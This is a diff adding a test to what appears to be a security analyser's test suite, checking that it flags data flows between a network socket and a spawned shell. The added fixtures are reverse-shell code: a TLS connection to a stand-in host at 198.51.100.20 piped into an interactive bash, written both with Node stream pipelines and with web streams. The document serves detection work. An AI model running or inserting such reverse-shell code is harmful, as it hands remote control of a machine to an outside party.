@@ -27,6 +27,15 @@ describe('streams', () => {
     assert.deepEqual([...new Set(flowsOf(code))], ['downloaded>run-as-command']);
   });
 
+  it('are tied together in pairs, and as those of the web', () => {
+    const open = `const a = require('tls').connect(443, '198.51.100.20'), p = cp.spawn('bash', ['-i']);`;
+    const shell = ['command-output>network@198.51.100.20', 'downloaded>run-as-command'];
+    const pair = `stream.Duplex.from({ readable: p.stdout, writable: p.stdin })`;
+    assert.deepEqual([...new Set(flowsOf(`${open} stream.pipeline(a, ${pair}, a, () => {});`))].toSorted(), shell);
+    const web = `const { Readable: R, Writable: W } = stream; R.toWeb(a).pipeTo(W.toWeb(p.stdin)); R.toWeb(p.stdout).pipeTo(W.toWeb(a));`;
+    assert.deepEqual([...new Set(flowsOf(`${open} ${web}`))].toSorted(), shell);
+  });
+
   it('go on through a cipher', () => {
     const sent = (end: string) =>
       flowsOf(`const c = require('net').connect(7443, 'collect.invalid'); const k = require('crypto');
